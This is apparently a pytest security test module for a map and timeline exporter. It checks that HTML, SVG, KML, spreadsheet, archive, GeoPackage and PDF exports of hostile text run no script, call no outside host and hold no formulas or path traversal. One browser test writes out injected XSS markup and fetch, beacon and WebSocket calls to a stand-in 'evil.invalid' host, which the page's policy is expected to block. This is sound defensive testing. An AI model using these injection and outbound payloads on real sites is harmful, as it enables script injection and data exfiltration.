"""Every export of a war whose every field is hostile, opened in a browser or by the programs people use."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import zipfile
from collections.abc import Callable, Iterator
from contextlib import closing
from pathlib import Path, PurePosixPath
from typing import Any
from urllib.parse import quote

import openpyxl
import pypdf
import pytest
from defusedxml import ElementTree

from geo.exports import write
from geo.exports.description import Description
from geo.exports.files import is_formula
from geo.model import Timeline
from geo.theatre import Theatre
from tests.hostile import MARK, PAYLOADS
from tests.security import exported
from tests.security.pages import faults

TITLE = " ".join(p for p in PAYLOADS[:6])[:300]


@pytest.fixture(scope="module")
def where(tmp_path_factory: pytest.TempPathFactory) -> Theatre:
    return exported.theatre(tmp_path_factory.mktemp("theatre"))


@pytest.fixture(scope="module")
def war() -> Timeline:
    return exported.timeline()


@pytest.fixture(scope="module")
def files(where: Theatre, war: Timeline, tmp_path_factory: pytest.TempPathFactory) -> Callable[[str], Path]:
    """Each format written once."""
    folder, written = tmp_path_factory.mktemp("exports"), {}

    def of(suffix: str) -> Path:
        if suffix not in written:
            description = Description(
                title=TITLE,
                credits=TITLE,
                scale=1.0,
                size=(480, 320),
                formats=(".csv", ".toml") if suffix == ".zip" else (),
            )
            written[suffix] = write(war, where, folder / f"a{suffix}", description)
        return written[suffix]

    return of


def texts(page: Any) -> str:
    return str(page.locator("body").inner_text())


@pytest.mark.browser
def test_the_page_with_everything_open_in_turn(files: Callable[[str], Path], open_page: Callable[..., Any]) -> None:
    opened = open_page(path=files(".html"), reduced_motion="reduce")
    page = opened.page
    assert MARK in page.title()
    page.keyboard.press("End")
    shown = 0
    for n in range(len(PAYLOADS)):
        page.evaluate(f"location.hash = '#day=2023-04-09&open=place:p{n}'")
        # No function is waited for: the page's policy forbids what that evaluates.
        page.wait_for_url(f"**place:p{n}")
        page.locator(".fl-place h2").wait_for()
        shown += MARK in texts(page)
    assert shown == len(PAYLOADS)
    page.keyboard.press("/")
    page.keyboard.type(MARK)
    page.evaluate(
        "location.hash = '#day=2023-04-08&view=claims&since=2023-04-09&swipe=2023-04-09&open=area:@10.5,10.9'"
    )
    page.wait_for_selector("html[data-day='2023-04-08']", state="attached")
    assert faults(opened) == []
    assert opened.errors == []


@pytest.mark.browser
def test_what_stands_behind_the_address_of_a_page(files: Callable[[str], Path], open_page: Callable[..., Any]) -> None:
    opened = open_page(path=files(".html"), reduced_motion="reduce")
    keys = (
        "day",
        "at",
        "open",
        "show",
        "mode",
        "lang",
        "since",
        "swipe",
        "view",
        "known",
        "names",
        "__proto__",
        "theatre",
    )
    for n, payload in enumerate(PAYLOADS):
        said = quote(payload[:300], errors="replace")
        kinds = ("place:", "front:", "claims:", "area:", "")
        opened.page.evaluate(
            f"location.hash = {json.dumps(f'#{keys[n % len(keys)]}={said}&open={kinds[n % 5]}{said}')}"
        )
    # They are taken in order: with the last one all were.
    opened.page.evaluate("location.hash = '#day=2023-04-08'")
    opened.page.wait_for_selector("html[data-day='2023-04-08']", state="attached")
    assert faults(opened) == []
    opened.page.evaluate(f"location.hash = {json.dumps('#open=place:' + quote(PAYLOADS[5]))}")
    opened.page.reload()
    opened.page.wait_for_selector("html[data-ready=yes]", state="attached")
    assert faults(opened) == []
    assert opened.errors == []


@pytest.mark.browser
@pytest.mark.parametrize("suffix", [".html", ".embed.html"])
def test_what_the_policy_forbids_is_refused(
    suffix: str, files: Callable[[str], Path], open_page: Callable[..., Any]
) -> None:
    """As if a hostile text had become markup after all: the browser itself lets none of it run or reach out."""
    opened = open_page(path=files(suffix), wait=suffix == ".html")
    frame = opened.page.main_frame
    if suffix != ".html":
        opened.page.frame_locator("iframe").locator("html[data-ready=yes]").wait_for(state="attached")
        frame = next(f for f in opened.page.frames if f is not opened.page.main_frame)
    refused = frame.evaluate("""async () => {
      const refused = [];
      document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
      const place = document.createElement('div');
      document.body.append(place);
      place.innerHTML = `<button onclick="window.fl0wn=1">x</button><img src="x:" onerror="window.fl0wn=1">
        <img src="https://evil.invalid/a.png"><iframe src="https://evil.invalid/"></iframe>
        <object data="https://evil.invalid/"></object><link rel="stylesheet" href="https://evil.invalid/a.css">
        <form action="https://evil.invalid/" method="post"><input name="a"></form><base href="https://evil.invalid/">`;
      place.querySelector('button').click();
      const script = document.createElement('script');
      script.textContent = 'window.fl0wn=1';
      place.append(script);
      const far = document.createElement('script');
      far.src = 'https://evil.invalid/a.js';
      place.append(far);
      try { place.querySelector('form').submit(); } catch { refused.push('form-action'); }
      await fetch('https://evil.invalid/').catch(() => 0);
      try { new WebSocket('wss://evil.invalid/'); } catch { /* refused */ }
      try { new Worker(URL.createObjectURL(new Blob(['1']))); } catch { /* refused */ }
      navigator.sendBeacon('https://evil.invalid/', 'x');
      const wanted = ['script-src-attr', 'script-src-elem', 'img-src', 'frame-src', 'style-src-elem', 'connect-src', 'worker-src'];
      for (let turn = 0; turn < 600 && !wanted.every((one) => refused.includes(one)); turn += 1)
        await new Promise(requestAnimationFrame);
      try { eval('window.fl0wn=1'); } catch { refused.push('eval'); }
      return [...new Set(refused)];
    }""")
    wanted = {
        "script-src-attr", "script-src-elem", "img-src", "frame-src", "style-src-elem", "connect-src", "base-uri", "worker-src",
    }  # fmt: skip
    assert wanted <= set(refused)
    assert (opened.outbound, opened.dialogs) == ([], [])
    assert not frame.evaluate("'fl0wn' in window")
    assert not opened.page.evaluate("'fl0wn' in window")


@pytest.mark.browser
def test_drawings_opened_as_pages(files: Callable[[str], Path], open_page: Callable[..., Any]) -> None:
    opened = open_page(path=files(".svg"), wait=False)
    assert MARK in opened.page.evaluate("document.documentElement.textContent")
    assert faults(opened) == []


def markup(text: str) -> Iterator[str]:
    for element in ElementTree.fromstring(text).iter():
        yield str(element.tag).rpartition("}")[2]


def test_drawings_and_earth_files_hold_no_script_and_no_far_address(files: Callable[[str], Path]) -> None:
    for suffix in (".svg", ".kml"):
        text = files(suffix).read_text(encoding="utf-8")
        assert not {"script", "foreignObject", "iframe", "NetworkLink", "image", "animate"} & set(markup(text))
        hosts = {
            v
            for e in ElementTree.fromstring(text).iter()
            for k, v in e.attrib.items()
            if k.endswith("href") and not v.startswith("#")
        }
        assert not {h for h in hosts if "evil" in h or h.startswith("javascript")}


def test_no_cell_of_any_table_is_a_formula(files: Callable[[str], Path]) -> None:
    for suffix in (".csv", ".control.csv"):
        rows = list(csv.reader(io.StringIO(files(suffix).read_text(encoding="utf-8-sig"), newline="")))
        assert len(rows) > len(PAYLOADS)
        assert not [cell for row in rows for cell in row if is_formula(cell) and not _is_number(cell)]
    book = openpyxl.load_workbook(files(".xlsx"))
    assert not [c.value for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert not [
        c.hyperlink.target
        for sheet in book
        for row in sheet.iter_rows()
        for c in row
        if c.hyperlink and "evil" in str(c.hyperlink.target)
    ]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_names_in_archives_are_plain_and_stay_inside(files: Callable[[str], Path]) -> None:
    for suffix in (".zip", ".kmz", ".xlsx"):
        with zipfile.ZipFile(files(suffix)) as archive:
            for name in archive.namelist():
                assert ".." not in PurePosixPath(name).parts
                assert not PurePosixPath(name).is_absolute()
                assert MARK not in name
                assert name.isascii()


def test_a_geopackage_holds_its_own_tables_and_no_trigger_of_a_text(files: Callable[[str], Path]) -> None:
    with closing(sqlite3.connect(files(".gpkg"))) as base:
        said = " ".join(row[0] or "" for row in base.execute("select sql from sqlite_master"))
        assert MARK not in said
        styles = [row[0] for row in base.execute("select styleQML from layer_styles")]
    for style in styles:
        assert not {"script", "actionsetting"} & set(markup(style))


def test_a_pdf_runs_nothing(files: Callable[[str], Path]) -> None:
    reader = pypdf.PdfReader(files(".pdf"))
    root = reader.trailer["/Root"]
    assert not {"/OpenAction", "/AA", "/AcroForm", "/Names"} & set(root)
    assert not [annotation for page in reader.pages for annotation in page.get("/Annots", ())]
    assert MARK in "".join(page.extract_text() for page in reader.pages)


@pytest.mark.parametrize("suffix", [".geojson", ".png", ".toml"])
def test_the_other_formats_are_written_and_can_be_read(suffix: str, files: Callable[[str], Path]) -> None:
    path = files(suffix)
    assert path.stat().st_size > 100
    if suffix == ".geojson":
        assert len(json.loads(path.read_text(encoding="utf-8"))["features"]) > len(PAYLOADS)
